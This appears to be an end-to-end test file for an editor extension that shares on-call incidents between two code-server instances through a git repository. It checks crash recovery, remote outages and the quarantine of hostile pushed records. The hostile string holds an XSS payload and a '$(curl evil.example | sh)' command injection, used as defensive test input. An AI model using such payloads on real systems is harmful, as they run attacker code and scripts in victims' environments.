// Two real editors (two code-server processes, separate user-data folders, separate clones of
// one bare repository on disk) sharing an incident through git: A declares and shares; B sees it
// in the Incidents view, joins and adds a note; A sees B's note in its panel. Then B's extension
// host is killed during a sync and B comes back with nothing lost; the remote is made
// unreachable and restored; a hostile segment pushed by hand is quarantined. Screenshots of
// both panels at each step (test-output/screenshots/team-*.png).
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { renameSync, rmSync } from 'node:fs';
import { extensionHostPid, makeWorkspace } from '../harness/codeServer.mjs';
import {
  addNote, authorOf, git, killHostDuringSync, palette, pickQuickInput, pushByHand, record, teamRepos, timelineFrame, waitForNote, writerIdOf,
} from '../harness/team.mjs';
import { openWorkbench } from '../harness/workbench.mjs';
import { asShown } from './lib/timeline.mjs';

const SETTINGS = { 'oncall.incidents.share': 'git', 'oncall.incidents.shareFetchSeconds': 2 };
const TITLE = 'Payments API returns 502';
const HOSTILE = '<img src=x onerror="window.__xss=1"> $(curl evil.example | sh) \u202Eevil';

export const checks = [
  {
    name: 'two editors share an incident through a bare repository: declare and share, join, notes both ways, host killed mid-sync, remote away and back, hostile segment quarantined',
    async run() {
      const repos = teamRepos();
      const a = await openWorkbench({ workspace: repos.wsA, settings: SETTINGS, theme: 'dark' });
      const b = await openWorkbench({ workspace: repos.wsB, settings: SETTINGS, theme: 'light' });
      const shot = (wb, name) => wb.screenshot(`team-${name}`);
      try {
        for (const wb of [a, b]) wb.page.on('dialog', (d) => void d.dismiss());

        // A declares from the palette and shares (the modal names the remote).
        await palette(a.page, 'On-Call: Declare Incident');
        await pickQuickInput(a.page, TITLE);
        await pickQuickInput(a.page, 'SEV2');
        await pickQuickInput(a.page, 'Ana');
        await pickQuickInput(a.page, 'Card payments fail for some users');
        const frameA = await timelineFrame(a.page);
        await addNote(frameA, 'Ana: error rate 14% on /pay');
        const incidentId = (await frameA.$eval('h1.title', (h) => h.textContent)).split(':')[0];
        assert.match(incidentId, /^INC-\d{8}-[0-9A-HJKMNP-TV-Z]{5}$/);
        await palette(a.page, 'On-Call: Share Incident with the Team');
        const dialog = a.page.locator('.monaco-dialog-box');
        await dialog.waitFor({ state: 'visible', timeout: 20_000 });
        assert.match(await dialog.innerText(), new RegExp(`Share ${incidentId} with the team through .*team\\.git`));
        await dialog.locator('.monaco-button', { hasText: 'Share' }).first().click();
        await frameA.waitForFunction(() => /^Shared with the team/.test(document.querySelector('.share-state')?.textContent ?? ''), undefined, { timeout: 60_000 });
        assert.match(git(repos.bare, 'for-each-ref', '--format=%(refname)'), new RegExp(`refs/oncall/incidents/${incidentId}/w[0-9a-z]{10}`));
        assert.equal(git(repos.bare, 'for-each-ref', '--format=%(refname)', 'refs/heads'), 'refs/heads/main', 'no branch was added');

        // B sees it in the Incidents view: "SEV2 · declared by Ana … ago · Join", and joins.
        await b.openOnCall();
        const row = b.page.locator('.sidebar .monaco-list-row', { hasText: TITLE }).first();
        await row.waitFor({ state: 'visible', timeout: 90_000 });
        assert.match(await row.innerText(), /SEV2 [^]*declared by Ana .*ago · Join/);
        await shot(b, 'b-incidents-view-join');
        await row.hover();
        await row.locator('.action-label[aria-label^="Join Incident"]').click();
        await pickQuickInput(b.page, 'commsLead');
        const frameB = await timelineFrame(b.page);
        await waitForNote(frameB, 'Ana: error rate 14% on /pay');
        assert.equal(await authorOf(frameB, 'Ana: error rate 14% on /pay'), 'Ana', 'the timeline shows who wrote each event');
        await addNote(frameB, 'Bo: the provider status page says degraded');

        // A sees B's note in its panel, written by Bo.
        await waitForNote(frameA, 'Bo: the provider status page says degraded');
        assert.equal(await authorOf(frameA, 'Bo: the provider status page says degraded'), 'Bo');
        await frameA.waitForFunction(() => /Communications lead: Bo/.test(document.body.textContent ?? ''), undefined, { timeout: 30_000 });
        await shot(a, 'a-panel-sees-b');
        await shot(b, 'b-panel-joined');

        // B's extension host is killed during a sync; B reloads with nothing lost.
        await addNote(frameB, 'Bo: before the crash');
        const decoy = Buffer.concat([Buffer.from(record({ id: 'ez-1', incidentId, time: new Date().toISOString(), author: 'Big', type: 'note', text: 'x' })), randomBytes(40 * 1024 * 1024)]);
        const killing = killHostDuringSync(b.server);
        pushByHand(repos.bare, incidentId, 'wz000000000', decoy, { format: 1, incidentId, writer: 'wz000000000', name: 'Big' });
        const killed = await killing;
        await frameB.evaluate(() => (window.__beforeRestart = true));
        await b.page.waitForTimeout(1500);
        await palette(b.page, 'Developer: Reload Window');
        await b.page.waitForSelector('.monaco-workbench', { timeout: 60_000 });
        const frameB2 = await timelineFrame(b.page, { fresh: true, timeoutMs: 90_000 });
        for (const n of ['Ana: error rate 14% on /pay', 'Bo: the provider status page says degraded', 'Bo: before the crash']) await waitForNote(frameB2, n, 60_000);
        const hostAfter = extensionHostPid(b.server);
        assert.ok(hostAfter && hostAfter !== killed.host, `a new extension host runs (killed during: ${killed.during})`);
        await waitForNote(frameA, 'Bo: before the crash');
        // The decoy was too big to read: set aside, and said so on B's panel.
        await frameB2.waitForFunction(() => /set aside/.test(document.querySelector('.share-state')?.textContent ?? ''), undefined, { timeout: 90_000 });
        await shot(b, 'b-panel-after-host-killed');

        // The remote goes away: A's note is acknowledged, "not shared yet"; then it comes back.
        renameSync(repos.bare, `${repos.bare}.away`);
        await addNote(frameA, 'Ana: written while the remote is away');
        await frameA.waitForFunction(() => /^Not shared yet \(1 event\)/.test(document.querySelector('.share-state')?.textContent ?? ''), undefined, { timeout: 60_000 });
        const status = a.page.locator('.statusbar-item', { hasText: 'not shared yet (1)' }).first();
        await status.waitFor({ state: 'visible', timeout: 30_000 });
        await shot(a, 'a-panel-remote-away');
        renameSync(`${repos.bare}.away`, repos.bare);
        await frameA.waitForFunction(() => /^Shared with the team/.test(document.querySelector('.share-state')?.textContent ?? ''), undefined, { timeout: 90_000 });
        await waitForNote(frameB2, 'Ana: written while the remote is away');

        // A hostile segment pushed by hand: what passes is text; the rest is set aside.
        const mallory = 'wm000000000';
        const now = new Date().toISOString();
        const hostile = [
          record({ id: 'em-1', incidentId, time: now, author: HOSTILE, writer: mallory, type: 'note', text: HOSTILE }),
          record({ id: 'em-2', incidentId, time: now, author: 'Ana', writer: writerIdOf(a.server), type: 'roleAssigned', role: 'commander', person: 'Mallory' }),
          record({ id: 'em-3', incidentId, time: now, author: 'M', writer: mallory, type: 'note', text: 'tampered after hashing' }).replace('tampered', 'TAMPERED'),
          'not a record at all\n',
        ].join('');
        pushByHand(repos.bare, incidentId, mallory, Buffer.from(hostile), { format: 1, incidentId, writer: mallory, name: HOSTILE });
        for (const frame of [frameA, frameB2]) {
          await waitForNote(frame, asShown(HOSTILE));
          await frame.waitForFunction(() => /problem\(s\) in teammates' events set aside/.test(document.querySelector('.share-state')?.textContent ?? ''), undefined, { timeout: 60_000 });
          assert.equal(await frame.evaluate(() => window.__xss), undefined, 'the hostile text ran nothing');
          const roles = await frame.$eval('header', (h) => h.textContent);
          assert.doesNotMatch(roles, /Incident commander: Mallory/, 'the forged handoff was not believed');
          const bodies = await frame.$$eval('#events .body', (els) => els.map((e) => e.textContent));
          assert.ok(!bodies.some((t) => /TAMPERED/.test(t)));
        }
        await frameA.evaluate(() => window.scrollTo(0, 0));
        await frameB2.evaluate(() => window.scrollTo(0, 0));
        await shot(a, 'a-panel-final');
        await shot(b, 'b-panel-final');
        assert.deepEqual([...a.pageErrors, ...b.pageErrors].filter((e) => /oncall|timeline/i.test(e)), []);
      } finally {
        await a.close();
        await b.close();
        rmSync(repos.base, { recursive: true, force: true });
      }
    },
  },
];

checks.push({
  name: 'two windows of one engineer on different folders: an incident declared and noted in one shows live in the other (user store, file watch)',
  async run() {
    const wsA = makeWorkspace();
    const wsB = makeWorkspace();
    const wb = await openWorkbench({ workspace: wsA, theme: 'dark' });
    try {
      const other = await wb.openWindow(wsB);
      await palette(wb.page, 'On-Call: Declare Incident');
      await pickQuickInput(wb.page, 'Queue consumers stuck');
      await pickQuickInput(wb.page, 'SEV3');
      await pickQuickInput(wb.page, 'Ana');
      await pickQuickInput(wb.page, '');
      const frame = await timelineFrame(wb.page);
      // The other window (another folder, another workspace identity) lists it and makes it its active incident too.
      await other.locator('.statusbar-item', { hasText: 'Queue consumers stuck' }).first().waitFor({ state: 'visible', timeout: 30_000 });
      await palette(other, 'On-Call: Open Incident Timeline');
      const otherFrame = await timelineFrame(other);
      const written = Date.now();
      await addNote(frame, 'written in the first window');
      await waitForNote(otherFrame, 'written in the first window', 30_000);
      const seenAfterMs = Date.now() - written;
      console.log(`      a note written in one window was on screen in the other after ${seenAfterMs} ms (includes the first window's own round trip)`);
      await addNote(otherFrame, 'and answered in the second');
      await waitForNote(frame, 'and answered in the second', 30_000);
      await other.screenshot({ path: (await wb.screenshot('windows-first')).replace('windows-first', 'windows-second') });
    } finally {
      await wb.close();
    }
  },
});
